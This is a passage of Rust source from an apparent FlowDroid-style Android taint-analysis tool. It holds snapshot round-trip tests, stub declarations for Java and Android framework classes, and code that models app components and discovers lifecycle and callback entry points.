        assert_eq!(decoded.info.service, snap.info.service);
        assert_eq!(decoded.info.receiver, snap.info.receiver);
        assert_eq!(decoded.info.provider, snap.info.provider);
        assert_eq!(decoded.info.callback_interfaces, snap.info.callback_interfaces);
        assert_eq!(decoded.info.stub_methods, snap.info.stub_methods);

        // Every method signature string matches, which pins down names,
        // descriptors, classes and arena order at once.
        let sp = snap.overlay_program();
        let dp = decoded.overlay_program();
        for m in sp.methods() {
            assert_eq!(dp.signature(m.id()), sp.signature(m.id()));
        }

        // Re-encoding the decoded snapshot is byte-identical.
        assert_eq!(encode_snapshot(&decoded), bytes);
    }

    #[test]
    fn fingerprint_is_the_wire_checksum_and_survives_round_trips() {
        let snap = build_snapshot();
        let bytes = encode_snapshot(&snap);
        let trailer = u64::from_le_bytes(bytes[bytes.len() - 8..].try_into().unwrap());
        assert_eq!(snap.fingerprint, trailer);
        let decoded = decode_snapshot(&bytes).expect("round trip");
        assert_eq!(decoded.fingerprint, snap.fingerprint);
    }

    #[test]
    fn overlay_and_deep_programs_agree() {
        let snap = build_snapshot();
        let over = snap.overlay_program();
        let deep = snap.deep_program();
        assert!(over.is_overlay());
        assert!(!deep.is_overlay());
        assert_eq!(over.class_count(), deep.class_count());
        assert_eq!(over.method_count(), deep.method_count());
        for m in deep.methods() {
            assert_eq!(over.signature(m.id()), deep.signature(m.id()));
        }
    }

    #[test]
    fn version_mismatch_is_rejected() {
        let snap = build_snapshot();
        let mut bytes = encode_snapshot(&snap);
        bytes[4] = 99; // version low byte
        // Fix up the checksum so only the version differs.
        let end = bytes.len() - 8;
        let sum = fnv1a64(&bytes[..end]);
        bytes[end..].copy_from_slice(&sum.to_le_bytes());
        match decode_snapshot(&bytes) {
            Err(SnapshotError::Corrupt(m)) => assert!(m.contains("version"), "{m}"),
            other => panic!("expected version error, got {other:?}"),
        }
    }

    #[test]
    fn every_truncation_is_rejected() {
        let snap = build_snapshot();
        let bytes = encode_snapshot(&snap);
        // Exhaustive truncation is quadratic in snapshot size; stride
        // keeps the test fast while covering every section.
        for cut in (0..bytes.len()).step_by(97).chain([1, 3, 7, bytes.len() - 1]) {
            assert!(
                decode_snapshot(&bytes[..cut]).is_err(),
                "cut at {cut} must not decode"
            );
        }
    }

    #[test]
    fn bit_flips_are_rejected_or_checksum_caught() {
        let snap = build_snapshot();
        let bytes = encode_snapshot(&snap);
        for pos in (0..bytes.len()).step_by(211) {
            let mut mutated = bytes.clone();
            mutated[pos] ^= 0x40;
            assert!(
                decode_snapshot(&mutated).is_err(),
                "bit flip at {pos} must not decode (checksum guards the payload)"
            );
        }
    }
}
