//! Stub declarations for the Android framework and core Java classes.
//!
//! Every method here is *native* (body-less): like the original
//! FlowDroid, the analysis never descends into the framework. Data flow
//! through these methods is modeled by taint-wrapper and native-call
//! rules in the core crate.

use flowdroid_ir::{ClassId, FxHashSet, MethodId, Program, SubSig, Type};

/// Lifecycle methods of an Activity, in lifecycle order.
pub const ACTIVITY_LIFECYCLE: &[&str] = &[
    "onCreate",
    "onStart",
    "onRestoreInstanceState",
    "onResume",
    "onPause",
    "onSaveInstanceState",
    "onStop",
    "onRestart",
    "onDestroy",
];

/// Lifecycle methods of a Service.
pub const SERVICE_LIFECYCLE: &[&str] = &["onCreate", "onStartCommand", "onBind", "onDestroy"];

/// Lifecycle methods of a BroadcastReceiver.
pub const RECEIVER_LIFECYCLE: &[&str] = &["onReceive"];

/// Lifecycle methods of a ContentProvider.
pub const PROVIDER_LIFECYCLE: &[&str] = &["onCreate", "query", "insert", "update", "delete"];

/// Well-known callback interfaces (paper §3: FlowDroid scans for system
/// calls taking these as formal parameter types).
pub const CALLBACK_INTERFACES: &[&str] = &[
    "android.view.View$OnClickListener",
    "android.view.View$OnLongClickListener",
    "android.location.LocationListener",
    "android.content.DialogInterface$OnClickListener",
    "android.widget.CompoundButton$OnCheckedChangeListener",
    "java.lang.Runnable",
];

/// Handles to frequently used platform entities.
#[derive(Debug, Clone)]
pub struct PlatformInfo {
    /// `java.lang.Object`.
    pub object: ClassId,
    /// `android.app.Activity`.
    pub activity: ClassId,
    /// `android.app.Service`.
    pub service: ClassId,
    /// `android.content.BroadcastReceiver`.
    pub receiver: ClassId,
    /// `android.content.ContentProvider`.
    pub provider: ClassId,
    /// Callback interface ids.
    pub callback_interfaces: Vec<ClassId>,
    /// All method ids declared by the platform (used to recognize
    /// overridden framework methods).
    pub stub_methods: FxHashSet<MethodId>,
}

impl PlatformInfo {
    /// Returns `true` if `class` is (a subtype of) one of the callback
    /// interfaces.
    pub fn is_callback_interface(&self, program: &Program, class: ClassId) -> bool {
        self.callback_interfaces.iter().any(|&i| program.is_subtype_of(class, i))
    }

    /// The lifecycle method names for the component kind whose base
    /// class is `base`.
    pub fn lifecycle_methods_of(&self, base: ClassId) -> &'static [&'static str] {
        if base == self.activity {
            ACTIVITY_LIFECYCLE
        } else if base == self.service {
            SERVICE_LIFECYCLE
        } else if base == self.receiver {
            RECEIVER_LIFECYCLE
        } else {
            PROVIDER_LIFECYCLE
        }
    }
}

/// Declares the platform stubs into `program` and returns the handles.
///
/// Idempotent per program only in the sense that it must be called
/// exactly once (declaring twice panics).
pub fn install_platform(program: &mut Program) -> PlatformInfo {
    let mut stub_methods = FxHashSet::default();
    let p = program;

    // ----- core Java -----------------------------------------------------
    let object = p.declare_class("java.lang.Object", None, &[]);
    let string = p.ref_type("java.lang.String");
    let obj_ty = Type::Ref(object);
    let iterator_ty = p.ref_type("java.util.Iterator");
    let ostream_ty = p.ref_type("java.io.OutputStream");
    let prefs_ty = p.ref_type("android.content.SharedPreferences");
    let intent_ty0 = p.ref_type("android.content.Intent");
    let view_ty0 = p.ref_type("android.view.View");
    let click_l_ty = p.ref_type("android.view.View$OnClickListener");
    let long_click_l_ty = p.ref_type("android.view.View$OnLongClickListener");
    let loc_l_ty = p.ref_type("android.location.LocationListener");
    let runnable_ty = p.ref_type("java.lang.Runnable");
    let editor_ty0 = p.ref_type("android.content.SharedPreferences$Editor");

    let stub = |p: &mut Program,
                    stubs: &mut FxHashSet<MethodId>,
                    class: ClassId,
                    name: &str,
                    params: Vec<Type>,
                    ret: Type,
                    is_static: bool| {
        let m = p.declare_method(class, name, params, ret, is_static);
        p.set_native(m, true);
        stubs.insert(m);
        m
    };

    stub(p, &mut stub_methods, object, "toString", vec![], string.clone(), false);
    stub(p, &mut stub_methods, object, "equals", vec![obj_ty.clone()], Type::Boolean, false);
    stub(p, &mut stub_methods, object, "hashCode", vec![], Type::Int, false);

    let jstring = p.declare_class("java.lang.String", Some("java.lang.Object"), &[]);
    stub(p, &mut stub_methods, jstring, "concat", vec![string.clone()], string.clone(), false);
    stub(p, &mut stub_methods, jstring, "substring", vec![Type::Int], string.clone(), false);
    stub(p, &mut stub_methods, jstring, "toCharArray", vec![], Type::Char.array_of(), false);
    stub(p, &mut stub_methods, jstring, "isEmpty", vec![], Type::Boolean, false);
    stub(p, &mut stub_methods, jstring, "length", vec![], Type::Int, false);
    stub(
        p,
        &mut stub_methods,
        jstring,
        "valueOf",
        vec![obj_ty.clone()],
        string.clone(),
        true,
    );

    let sb = p.declare_class("java.lang.StringBuilder", Some("java.lang.Object"), &[]);
    stub(p, &mut stub_methods, sb, "<init>", vec![], Type::Void, false);
    let sb_ty = p.ref_type("java.lang.StringBuilder");
    stub(p, &mut stub_methods, sb, "append", vec![string.clone()], sb_ty.clone(), false);

    let system = p.declare_class("java.lang.System", Some("java.lang.Object"), &[]);
    stub(
        p,
        &mut stub_methods,
        system,
        "arraycopy",
        vec![obj_ty.clone(), Type::Int, obj_ty.clone(), Type::Int, Type::Int],
        Type::Void,
        true,
    );

    // Collections.
    let coll_ifaces = ["java.util.List", "java.util.Set", "java.util.Collection"];
    for name in coll_ifaces {
        let i = p.declare_interface(name, &[]);
        stub(p, &mut stub_methods, i, "add", vec![obj_ty.clone()], Type::Boolean, false);
        stub(p, &mut stub_methods, i, "get", vec![Type::Int], obj_ty.clone(), false);
        stub(p, &mut stub_methods, i, "iterator", vec![], iterator_ty.clone(), false);
    }
    let iter = p.declare_interface("java.util.Iterator", &[]);
    stub(p, &mut stub_methods, iter, "next", vec![], obj_ty.clone(), false);
    stub(p, &mut stub_methods, iter, "hasNext", vec![], Type::Boolean, false);
    for (name, iface) in
        [("java.util.ArrayList", "java.util.List"), ("java.util.LinkedList", "java.util.List"), ("java.util.HashSet", "java.util.Set")]
    {
        let c = p.declare_class(name, Some("java.lang.Object"), &[iface]);
        stub(p, &mut stub_methods, c, "<init>", vec![], Type::Void, false);
        stub(p, &mut stub_methods, c, "add", vec![obj_ty.clone()], Type::Boolean, false);
        stub(p, &mut stub_methods, c, "get", vec![Type::Int], obj_ty.clone(), false);
        stub(p, &mut stub_methods, c, "iterator", vec![], iterator_ty.clone(), false);
    }
    let map = p.declare_interface("java.util.Map", &[]);
    stub(
        p,
        &mut stub_methods,
        map,
        "put",
        vec![obj_ty.clone(), obj_ty.clone()],
        obj_ty.clone(),
        false,
    );
    stub(p, &mut stub_methods, map, "get", vec![obj_ty.clone()], obj_ty.clone(), false);
    let hashmap = p.declare_class("java.util.HashMap", Some("java.lang.Object"), &["java.util.Map"]);
    stub(p, &mut stub_methods, hashmap, "<init>", vec![], Type::Void, false);
    stub(
        p,
        &mut stub_methods,
        hashmap,
        "put",
        vec![obj_ty.clone(), obj_ty.clone()],
        obj_ty.clone(),
        false,
    );
    stub(p, &mut stub_methods, hashmap, "get", vec![obj_ty.clone()], obj_ty.clone(), false);

    // IO / network.
    let ostream = p.declare_class("java.io.OutputStream", Some("java.lang.Object"), &[]);
    stub(p, &mut stub_methods, ostream, "write", vec![string.clone()], Type::Void, false);
    let socket = p.declare_class("java.net.Socket", Some("java.lang.Object"), &[]);
    stub(p, &mut stub_methods, socket, "<init>", vec![string.clone(), Type::Int], Type::Void, false);
    stub(
        p,
        &mut stub_methods,
        socket,
        "getOutputStream",
        vec![],
        ostream_ty.clone(),
        false,
    );
    let url = p.declare_class("java.net.URL", Some("java.lang.Object"), &[]);
    stub(p, &mut stub_methods, url, "<init>", vec![string.clone()], Type::Void, false);
    stub(p, &mut stub_methods, url, "openConnection", vec![], obj_ty.clone(), false);

    // ----- Android core ---------------------------------------------------
    let context = p.declare_class("android.content.Context", Some("java.lang.Object"), &[]);
    stub(
        p,
        &mut stub_methods,
        context,
        "getSystemService",
        vec![string.clone()],
        obj_ty.clone(),
        false,
    );
    stub(
        p,
        &mut stub_methods,
        context,
        "getSharedPreferences",
        vec![string.clone(), Type::Int],
        prefs_ty.clone(),
        false,
    );
    stub(
        p,
        &mut stub_methods,
        context,
        "sendBroadcast",
        vec![intent_ty0.clone()],
        Type::Void,
        false,
    );
    stub(
        p,
        &mut stub_methods,
        context,
        "startActivity",
        vec![intent_ty0.clone()],
        Type::Void,
        false,
    );
    stub(
        p,
        &mut stub_methods,
        context,
        "startService",
        vec![intent_ty0.clone()],
        Type::Void,
        false,
    );

    let bundle = p.declare_class("android.os.Bundle", Some("java.lang.Object"), &[]);
    stub(p, &mut stub_methods, bundle, "<init>", vec![], Type::Void, false);
    stub(
        p,
        &mut stub_methods,
        bundle,
        "putString",
        vec![string.clone(), string.clone()],
        Type::Void,
        false,
    );
    stub(
        p,
        &mut stub_methods,
        bundle,
        "getString",
        vec![string.clone()],
        string.clone(),
        false,
    );

    let intent = p.declare_class("android.content.Intent", Some("java.lang.Object"), &[]);
    stub(p, &mut stub_methods, intent, "<init>", vec![], Type::Void, false);
    let intent_ty = p.ref_type("android.content.Intent");
    stub(
        p,
        &mut stub_methods,
        intent,
        "putExtra",
        vec![string.clone(), string.clone()],
        intent_ty.clone(),
        false,
    );
    stub(
        p,
        &mut stub_methods,
        intent,
        "getStringExtra",
        vec![string.clone()],
        string.clone(),
        false,
    );
    stub(p, &mut stub_methods, intent, "setAction", vec![string.clone()], intent_ty.clone(), false);

    // Components.
    let activity =
        p.declare_class("android.app.Activity", Some("android.content.Context"), &[]);
    let bundle_ty = p.ref_type("android.os.Bundle");
    for (name, params) in [
        ("onCreate", vec![bundle_ty.clone()]),
        ("onStart", vec![]),
        ("onRestoreInstanceState", vec![bundle_ty.clone()]),
        ("onResume", vec![]),
        ("onPause", vec![]),
        ("onSaveInstanceState", vec![bundle_ty.clone()]),
        ("onStop", vec![]),
        ("onRestart", vec![]),
        ("onDestroy", vec![]),
        ("onLowMemory", vec![]),
    ] {
        stub(p, &mut stub_methods, activity, name, params, Type::Void, false);
    }
    stub(
        p,
        &mut stub_methods,
        activity,
        "findViewById",
        vec![Type::Int],
        view_ty0.clone(),
        false,
    );
    stub(p, &mut stub_methods, activity, "setContentView", vec![Type::Int], Type::Void, false);
    stub(p, &mut stub_methods, activity, "getIntent", vec![], intent_ty.clone(), false);
    stub(
        p,
        &mut stub_methods,
        activity,
        "setResult",
        vec![Type::Int, intent_ty.clone()],
        Type::Void,
        false,
    );
    stub(p, &mut stub_methods, activity, "finish", vec![], Type::Void, false);

    let service = p.declare_class("android.app.Service", Some("android.content.Context"), &[]);
    stub(p, &mut stub_methods, service, "onCreate", vec![], Type::Void, false);
    stub(
        p,
        &mut stub_methods,
        service,
        "onStartCommand",
        vec![intent_ty.clone(), Type::Int, Type::Int],
        Type::Int,
        false,
    );
    stub(p, &mut stub_methods, service, "onBind", vec![intent_ty.clone()], obj_ty.clone(), false);
    stub(p, &mut stub_methods, service, "onDestroy", vec![], Type::Void, false);

    let receiver =
        p.declare_class("android.content.BroadcastReceiver", Some("java.lang.Object"), &[]);
    let context_ty = p.ref_type("android.content.Context");
    stub(
        p,
        &mut stub_methods,
        receiver,
        "onReceive",
        vec![context_ty.clone(), intent_ty.clone()],
        Type::Void,
        false,
    );

    let provider =
        p.declare_class("android.content.ContentProvider", Some("java.lang.Object"), &[]);
    stub(p, &mut stub_methods, provider, "onCreate", vec![], Type::Boolean, false);
    stub(
        p,
        &mut stub_methods,
        provider,
        "query",
        vec![string.clone()],
        obj_ty.clone(),
        false,
    );
    stub(
        p,
        &mut stub_methods,
        provider,
        "insert",
        vec![string.clone(), string.clone()],
        obj_ty.clone(),
        false,
    );
    stub(
        p,
        &mut stub_methods,
        provider,
        "update",
        vec![string.clone(), string.clone()],
        Type::Int,
        false,
    );
    stub(p, &mut stub_methods, provider, "delete", vec![string.clone()], Type::Int, false);

    // Views and widgets.
    let view = p.declare_class("android.view.View", Some("java.lang.Object"), &[]);
    let click_listener = p.declare_interface("android.view.View$OnClickListener", &[]);
    let view_ty = p.ref_type("android.view.View");
    stub(
        p,
        &mut stub_methods,
        click_listener,
        "onClick",
        vec![view_ty.clone()],
        Type::Void,
        false,
    );
    let long_click_listener = p.declare_interface("android.view.View$OnLongClickListener", &[]);
    stub(
        p,
        &mut stub_methods,
        long_click_listener,
        "onLongClick",
        vec![view_ty.clone()],
        Type::Boolean,
        false,
    );
    stub(
        p,
        &mut stub_methods,
        view,
        "setOnClickListener",
        vec![click_l_ty.clone()],
        Type::Void,
        false,
    );
    stub(
        p,
        &mut stub_methods,
        view,
        "setOnLongClickListener",
        vec![long_click_l_ty.clone()],
        Type::Void,
        false,
    );
    stub(p, &mut stub_methods, view, "findViewById", vec![Type::Int], view_ty.clone(), false);

    let textview = p.declare_class("android.widget.TextView", Some("android.view.View"), &[]);
    stub(p, &mut stub_methods, textview, "getText", vec![], string.clone(), false);
    stub(p, &mut stub_methods, textview, "setText", vec![string.clone()], Type::Void, false);
    p.declare_class("android.widget.Button", Some("android.widget.TextView"), &[]);
    p.declare_class("android.widget.EditText", Some("android.widget.TextView"), &[]);

    // Location.
    let location = p.declare_class("android.location.Location", Some("java.lang.Object"), &[]);
    stub(p, &mut stub_methods, location, "getLatitude", vec![], Type::Double, false);
    stub(p, &mut stub_methods, location, "getLongitude", vec![], Type::Double, false);
    let loc_listener = p.declare_interface("android.location.LocationListener", &[]);
    let location_ty = p.ref_type("android.location.Location");
    stub(
        p,
        &mut stub_methods,
        loc_listener,
        "onLocationChanged",
        vec![location_ty.clone()],
        Type::Void,
        false,
    );
    stub(
        p,
        &mut stub_methods,
        loc_listener,
        "onProviderDisabled",
        vec![string.clone()],
        Type::Void,
        false,
    );
    let loc_manager =
        p.declare_class("android.location.LocationManager", Some("java.lang.Object"), &[]);
    stub(
        p,
        &mut stub_methods,
        loc_manager,
        "requestLocationUpdates",
        vec![
            string.clone(),
            Type::Long,
            Type::Float,
            loc_l_ty.clone(),
        ],
        Type::Void,
        false,
    );
    stub(
        p,
        &mut stub_methods,
        loc_manager,
        "getLastKnownLocation",
        vec![string.clone()],
        location_ty.clone(),
        false,
    );

    // Dialogs / compound buttons / runnables.
    let dlg_listener = p.declare_interface("android.content.DialogInterface$OnClickListener", &[]);
    stub(
        p,
        &mut stub_methods,
        dlg_listener,
        "onClick",
        vec![obj_ty.clone(), Type::Int],
        Type::Void,
        false,
    );
    let checked_listener =
        p.declare_interface("android.widget.CompoundButton$OnCheckedChangeListener", &[]);
    stub(
        p,
        &mut stub_methods,
        checked_listener,
        "onCheckedChanged",
        vec![view_ty.clone(), Type::Boolean],
        Type::Void,
        false,
    );
    let runnable = p.declare_interface("java.lang.Runnable", &[]);
    stub(p, &mut stub_methods, runnable, "run", vec![], Type::Void, false);
    let thread = p.declare_class("java.lang.Thread", Some("java.lang.Object"), &[]);
    stub(
        p,
        &mut stub_methods,
        thread,
        "<init>",
        vec![runnable_ty.clone()],
        Type::Void,
        false,
    );
    stub(p, &mut stub_methods, thread, "start", vec![], Type::Void, false);

    // Telephony, SMS, logging, preferences.
    let tm = p.declare_class("android.telephony.TelephonyManager", Some("java.lang.Object"), &[]);
    stub(p, &mut stub_methods, tm, "getDeviceId", vec![], string.clone(), false);
    stub(p, &mut stub_methods, tm, "getSimSerialNumber", vec![], string.clone(), false);
    stub(p, &mut stub_methods, tm, "getLine1Number", vec![], string.clone(), false);

    let sms = p.declare_class("android.telephony.SmsManager", Some("java.lang.Object"), &[]);
    let sms_ty = p.ref_type("android.telephony.SmsManager");
    stub(p, &mut stub_methods, sms, "getDefault", vec![], sms_ty, true);
    stub(
        p,
        &mut stub_methods,
        sms,
        "sendTextMessage",
        vec![string.clone(), string.clone(), string.clone(), obj_ty.clone(), obj_ty.clone()],
        Type::Void,
        false,
    );

    let log = p.declare_class("android.util.Log", Some("java.lang.Object"), &[]);
    for name in ["i", "d", "e", "v", "w"] {
        stub(
            p,
            &mut stub_methods,
            log,
            name,
            vec![string.clone(), string.clone()],
            Type::Int,
            true,
        );
    }

    let prefs = p.declare_interface("android.content.SharedPreferences", &[]);
    stub(
        p,
        &mut stub_methods,
        prefs,
        "edit",
        vec![],
        editor_ty0.clone(),
        false,
    );
    let editor = p.declare_interface("android.content.SharedPreferences$Editor", &[]);
    let editor_ty = p.ref_type("android.content.SharedPreferences$Editor");
    stub(
        p,
        &mut stub_methods,
        editor,
        "putString",
        vec![string.clone(), string.clone()],
        editor_ty,
        false,
    );
    stub(p, &mut stub_methods, editor, "commit", vec![], Type::Boolean, false);

    let callback_interfaces = CALLBACK_INTERFACES
        .iter()
        .map(|n| p.class_id(n))
        .collect();

    PlatformInfo {
        object,
        activity,
        service,
        receiver,
        provider,
        callback_interfaces,
        stub_methods,
    }
}

/// Returns the lifecycle-method subsignature (by name) declared on the
/// platform base class, used to check overrides.
pub fn platform_subsig(
    program: &Program,
    base: ClassId,
    name: &str,
) -> Option<SubSig> {
    let name_sym = program.lookup_symbol(name)?;
    for c in program.supers(base) {
        for &m in program.class(c).methods() {
            if program.method(m).name() == name_sym {
                return Some(program.method(m).subsig().clone());
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn installs_component_hierarchy() {
        let mut p = Program::new();
        let info = install_platform(&mut p);
        assert!(p.is_subtype_of(info.activity, info.object));
        let ctx = p.find_class("android.content.Context").unwrap();
        assert!(p.is_subtype_of(info.activity, ctx));
        assert!(p.is_subtype_of(info.service, ctx));
        assert!(p.find_method("android.app.Activity", "findViewById").is_some());
    }

    #[test]
    fn stub_methods_are_native() {
        let mut p = Program::new();
        let info = install_platform(&mut p);
        for &m in &info.stub_methods {
            assert!(p.method(m).is_native());
            assert!(!p.method(m).has_body());
        }
        assert!(info.stub_methods.len() > 50);
    }

    #[test]
    fn callback_interfaces_are_recognized() {
        let mut p = Program::new();
        let info = install_platform(&mut p);
        let cl = p.find_class("android.view.View$OnClickListener").unwrap();
        assert!(info.is_callback_interface(&p, cl));
        // A user class implementing the interface counts too.
        let user = p.declare_class("my.Listener", Some("java.lang.Object"), &["android.view.View$OnClickListener"]);
        assert!(info.is_callback_interface(&p, user));
        assert!(!info.is_callback_interface(&p, info.object));
    }

    #[test]
    fn lifecycle_tables() {
        let mut p = Program::new();
        let info = install_platform(&mut p);
        assert!(info.lifecycle_methods_of(info.activity).contains(&"onRestart"));
        assert!(info.lifecycle_methods_of(info.receiver).contains(&"onReceive"));
        assert!(info.lifecycle_methods_of(info.service).contains(&"onStartCommand"));
    }

    #[test]
    fn platform_subsig_resolves_through_supers() {
        let mut p = Program::new();
        let info = install_platform(&mut p);
        let sig = platform_subsig(&p, info.activity, "onCreate").unwrap();
        assert_eq!(sig.params.len(), 1);
        assert!(platform_subsig(&p, info.activity, "noSuchMethod").is_none());
        // getSystemService is declared on Context, found from Activity.
        assert!(platform_subsig(&p, info.activity, "getSystemService").is_some());
    }
}
