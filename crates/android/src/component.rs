//! Per-component models and iterative callback discovery (paper §3).

use crate::platform::PlatformInfo;
use flowdroid_callgraph::{materialize_reachable, CallGraph, CgAlgorithm, Hierarchy};
use flowdroid_frontend::manifest::ComponentKind;
use flowdroid_frontend::App;
use flowdroid_ir::{ClassId, Constant, FxHashSet, MethodId, Operand, Program};

/// How callbacks are associated with components.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub enum CallbackAssociation {
    /// Precise: a callback is only invoked within the lifecycle of the
    /// component that registers it (the paper's approach).
    #[default]
    PerComponent,
    /// Imprecise ablation: every discovered callback is invoked within
    /// every component's lifecycle.
    Global,
}

/// Who receives a callback invocation in the dummy main.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum CallbackReceiver {
    /// The component instance itself (XML handlers, overridden
    /// framework methods, components implementing listener interfaces).
    Component,
    /// A freshly allocated instance of the given listener class.
    Fresh(ClassId),
}

/// One callback to invoke during a component's running phase.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct CallbackInfo {
    /// The concrete callback method.
    pub method: MethodId,
    /// The receiver to invoke it on.
    pub receiver: CallbackReceiver,
}

/// The model of one manifest component.
#[derive(Clone, Debug)]
pub struct ComponentModel {
    /// Component kind.
    pub kind: ComponentKind,
    /// The component class.
    pub class: ClassId,
    /// Lifecycle methods the component actually overrides, in
    /// lifecycle order.
    pub lifecycle: Vec<MethodId>,
    /// Discovered callbacks.
    pub callbacks: Vec<CallbackInfo>,
    /// Layout resource names this component inflates via
    /// `setContentView`.
    pub layouts: Vec<String>,
}

/// The complete entry-point model of an app: what the dummy main is
/// generated from.
#[derive(Clone, Debug)]
pub struct EntryPointModel {
    /// Per-component models (enabled components only).
    pub components: Vec<ComponentModel>,
    /// `<clinit>` static initializers of app classes (run first).
    pub static_initializers: Vec<MethodId>,
}

impl EntryPointModel {
    /// Builds the model for `app`: resolves overridden lifecycle
    /// methods, associates layouts, and discovers callbacks iteratively
    /// until a fixed point is reached (paper §3: callbacks may register
    /// further callbacks).
    ///
    /// Takes the program mutably because lazily loaded apps (see
    /// [`flowdroid_frontend::App::from_archive_lazy`]) materialize
    /// method bodies on demand: each discovery iteration first runs
    /// [`materialize_reachable`] over the current entry set so the call
    /// graph scan below sees every reachable body. Eagerly loaded
    /// programs pass through unchanged.
    pub fn build(
        program: &mut Program,
        platform: &PlatformInfo,
        app: &App,
        association: CallbackAssociation,
    ) -> EntryPointModel {
        let hierarchy = Hierarchy::build(program);
        let mut components = Vec::new();
        for decl in app.manifest.enabled_components() {
            let Some(class) = program.find_class(&decl.class_name) else { continue };
            let base = match decl.kind {
                ComponentKind::Activity => platform.activity,
                ComponentKind::Service => platform.service,
                ComponentKind::BroadcastReceiver => platform.receiver,
                ComponentKind::ContentProvider => platform.provider,
            };
            if !program.is_subtype_of(class, base) {
                continue;
            }
            let lifecycle = overridden_lifecycle(program, platform, class, base);
            components.push(ComponentModel {
                kind: decl.kind,
                class,
                lifecycle,
                callbacks: Vec::new(),
                layouts: Vec::new(),
            });
        }

        // Iterative callback discovery per component.
        for comp in &mut components {
            discover_component(program, platform, app, &hierarchy, comp);
        }

        // Ablation: pool all callbacks into every component. A
        // component-receiver callback cannot be transplanted onto other
        // components, so pooled copies run on fresh instances of their
        // own class — exactly the imprecision this mode measures.
        if association == CallbackAssociation::Global {
            let pooled: Vec<CallbackInfo> = components
                .iter()
                .flat_map(|c| {
                    let cls = c.class;
                    c.callbacks.iter().map(move |cb| match cb.receiver {
                        CallbackReceiver::Component => CallbackInfo {
                            method: cb.method,
                            receiver: CallbackReceiver::Fresh(cls),
                        },
                        other => CallbackInfo { method: cb.method, receiver: other },
                    })
                })
                .collect();
            for comp in &mut components {
                let mut merged: Vec<CallbackInfo> = comp.callbacks.clone();
                for cb in &pooled {
                    if !merged.contains(cb) {
                        merged.push(*cb);
                    }
                }
                comp.callbacks = merged;
            }
        }

        // Static initializers of app classes, run at program start
        // (Soot's assumption; reproduces the StaticInitialization1 miss).
        let clinit_name = program.lookup_symbol("<clinit>");
        let mut static_initializers = Vec::new();
        if let Some(clinit) = clinit_name {
            for &cid in &app.classes {
                for &m in program.class(cid).methods() {
                    if program.method(m).name() == clinit && program.method(m).has_body() {
                        static_initializers.push(m);
                    }
                }
            }
        }

        EntryPointModel { components, static_initializers }
    }

    /// All entry methods across components (lifecycle + callbacks),
    /// useful for building call graphs without a dummy main.
    pub fn all_entry_methods(&self) -> Vec<MethodId> {
        let mut out: Vec<MethodId> = self.static_initializers.clone();
        for c in &self.components {
            out.extend(c.lifecycle.iter().copied());
            out.extend(c.callbacks.iter().map(|cb| cb.method));
        }
        out
    }
}

/// Lifecycle methods of `class` that override the platform's, in
/// lifecycle order.
fn overridden_lifecycle(
    program: &Program,
    platform: &PlatformInfo,
    class: ClassId,
    base: ClassId,
) -> Vec<MethodId> {
    let mut out = Vec::new();
    for name in platform.lifecycle_methods_of(base) {
        let Some(subsig) = crate::platform::platform_subsig(program, base, name) else {
            continue;
        };
        // Walk the app class chain up to (but excluding) the platform
        // base for an override with a body.
        for c in program.supers(class) {
            if c == base {
                break;
            }
            if let Some(m) = program.class(c).method_by_subsig(&subsig) {
                if program.method(m).has_body() {
                    out.push(m);
                }
                break;
            }
        }
    }
    out
}

/// Runs iterative callback discovery for one component (paper §3): build
/// a call graph from the component's current entry set, scan reachable
/// code for callback registrations, extend, repeat until fixed point.
fn discover_component(
    program: &mut Program,
    platform: &PlatformInfo,
    app: &App,
    hierarchy: &Hierarchy,
    comp: &mut ComponentModel,
) {
    let mut known: FxHashSet<CallbackInfo> = FxHashSet::default();
    // Overridden non-lifecycle framework methods are callbacks from the
    // start (MethodOverride-style tests).
    for cb in overridden_framework_methods(program, platform, comp) {
        known.insert(cb);
    }
    loop {
        let mut entries: Vec<MethodId> = comp.lifecycle.clone();
        entries.extend(known.iter().map(|cb| cb.method));
        // Decode any deferred bodies the entry set can reach before the
        // immutable callgraph scan below (no-op on eager programs).
        materialize_reachable(program, hierarchy, &entries);
        let cg = CallGraph::build_with_hierarchy(program, hierarchy, &entries, CgAlgorithm::Cha);

        let mut changed = false;
        // Layouts inflated by this component.
        for layout_name in inflated_layouts(program, app, &cg) {
            if !comp.layouts.contains(&layout_name) {
                comp.layouts.push(layout_name);
                changed = true;
            }
        }
        // XML-declared click handlers for associated layouts.
        for layout_name in comp.layouts.clone() {
            if let Some(layout) = app.layouts.get(&layout_name) {
                for handler in layout.click_handlers() {
                    if let Some(m) = find_handler(program, comp.class, handler) {
                        if known.insert(CallbackInfo {
                            method: m,
                            receiver: CallbackReceiver::Component,
                        }) {
                            changed = true;
                        }
                    }
                }
            }
        }
        // Imperative registrations: calls to stub methods taking a
        // callback-interface parameter.
        for cb in imperative_callbacks(program, platform, hierarchy, &cg, comp.class) {
            if known.insert(cb) {
                changed = true;
            }
        }
        if !changed {
            break;
        }
    }
    let mut callbacks: Vec<CallbackInfo> = known.into_iter().collect();
    callbacks.sort_by_key(|cb| cb.method);
    comp.callbacks = callbacks;
}

/// Non-lifecycle framework methods the component class overrides.
fn overridden_framework_methods(
    program: &Program,
    platform: &PlatformInfo,
    comp: &ComponentModel,
) -> Vec<CallbackInfo> {
    let mut out = Vec::new();
    let class = program.class(comp.class);
    for &m in class.methods() {
        let method = program.method(m);
        if !method.has_body() || comp.lifecycle.contains(&m) {
            continue;
        }
        // Does a platform superclass or implemented interface declare
        // this subsignature as a stub?
        let subsig = method.subsig().clone();
        let mut overrides_stub = false;
        let mut stack: Vec<ClassId> = Vec::new();
        if let Some(s) = class.superclass() {
            stack.push(s);
        }
        stack.extend(class.interfaces().iter().copied());
        let mut seen = FxHashSet::default();
        while let Some(c) = stack.pop() {
            if !seen.insert(c) {
                continue;
            }
            if let Some(sm) = program.class(c).method_by_subsig(&subsig) {
                if platform.stub_methods.contains(&sm) {
                    overrides_stub = true;
                    break;
                }
            }
            let cd = program.class(c);
            if let Some(s) = cd.superclass() {
                stack.push(s);
            }
            stack.extend(cd.interfaces().iter().copied());
        }
        if overrides_stub {
            out.push(CallbackInfo { method: m, receiver: CallbackReceiver::Component });
        }
    }
    out
}

/// Layout names passed to `setContentView(int)` in reachable code.
fn inflated_layouts(program: &Program, app: &App, cg: &CallGraph) -> Vec<String> {
